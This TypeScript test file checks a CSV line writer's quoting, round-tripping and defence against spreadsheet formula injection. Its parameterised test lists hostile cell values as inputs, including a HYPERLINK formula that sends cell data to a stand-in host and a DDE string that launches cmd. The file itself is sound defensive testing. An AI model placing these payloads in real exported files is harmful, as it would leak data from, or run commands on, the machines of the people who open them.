import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvLine } from '../../src/lib/csv.ts'

/** As a reader that is not ours takes it, one that forgives nothing. */
function read(text: string): string[][] {
  return parse(text, { bom: false, relax_quotes: false, trim: false, record_delimiter: '\r\n' })
}

describe('a line of CSV', () => {
  test('ends with CR and LF, and quotes only what has to be', () => {
    expect(csvLine(['a', 'b c', 7, null, ''])).toBe('a,b c,7,,\r\n')
    expect(csvLine(['a,b', 'say "no"', 'a\nb', 'a\rb'])).toBe(
      '"a,b","say ""no""","a\nb","a\rb"\r\n',
    )
    expect(csvLine([' a', 'a '])).toBe('" a","a "\r\n')
  })

  test('is read by others as it was written', () => {
    const cell = fc.string({ unit: 'grapheme', maxLength: 20 })
    const plain = cell.map((text) => `x${text}`)
    fc.assert(
      fc.property(fc.array(plain, { minLength: 1, maxLength: 5 }), (cells) => {
        expect(read(csvLine(cells))).toEqual([cells])
      }),
    )
  })

  test.each([
    '=1+1',
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    '+1',
    '-1+cmd|" /C calc"!A0',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('never begins a cell as a formula: %j', (hostile) => {
    expect(read(csvLine(['a', hostile, 'b']))).toEqual([['a', `'${hostile}`, 'b']])
  })

  test('leaves alone what only holds such a sign, and numbers', () => {
    expect(csvLine(['a=1', "'=1", 'user:ann', -1])).toBe("a=1,'=1,user:ann,-1\r\n")
  })

  test('whatever is in it, is one line whose cells are no formulas', () => {
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;\' a') }),
      fc.string({ unit: 'grapheme' }),
    )
    fc.assert(
      fc.property(fc.array(cell, { minLength: 2, maxLength: 4 }), (cells) => {
        const rows = read(csvLine(cells))
        expect(rows).toHaveLength(1)
        for (const [at, text] of (rows[0] ?? []).entries()) {
          expect(text).not.toMatch(/^[=+\-@\t\r\n]/)
          expect([cells[at], `'${cells[at]}`]).toContain(text)
        }
      }),
    )
  })
})
